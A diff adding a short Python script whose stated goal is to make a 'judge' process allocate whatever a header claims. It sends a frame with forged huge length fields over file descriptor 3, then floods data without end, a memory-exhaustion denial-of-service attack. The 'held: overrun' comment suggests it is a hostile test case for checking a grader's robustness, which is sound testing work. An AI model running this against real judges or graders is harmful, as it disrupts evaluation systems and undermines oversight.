@@ -1,0 +1,19 @@
+"""Goal: make the judge allocate what a header says"""
+# held: overrun
+
+import os, struct
+
+def frame(text, buffers=b"", length=None, size=None):
+    head = struct.pack("<IQ", len(text) if length is None else length, len(buffers) if size is None else size)
+    return head + text + buffers
+
+def send(data):
+    view = memoryview(data)
+    while view:
+        view = view[os.write(3, view):]
+
+
+def attack():
+    send(frame(b'', length=2**32 - 1, size=2**63))
+    while True:
+        send(bytes(4096))
